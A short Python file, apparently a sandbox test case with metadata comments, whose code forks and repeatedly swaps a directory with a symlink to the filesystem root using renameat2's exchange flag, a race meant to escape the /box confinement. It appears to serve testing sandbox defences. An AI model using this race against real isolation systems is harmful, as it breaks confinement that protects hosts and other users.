# The same in one step, by exchange, in several places.
# attacks: stdio
# cpu_s: 2
import ctypes, os

libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.makedirs("/box/a/b")
    os.symlink("/", "/box/c")
    while True: libc.renameat2(-100, b"/box/a", -100, b"/box/c", 2)
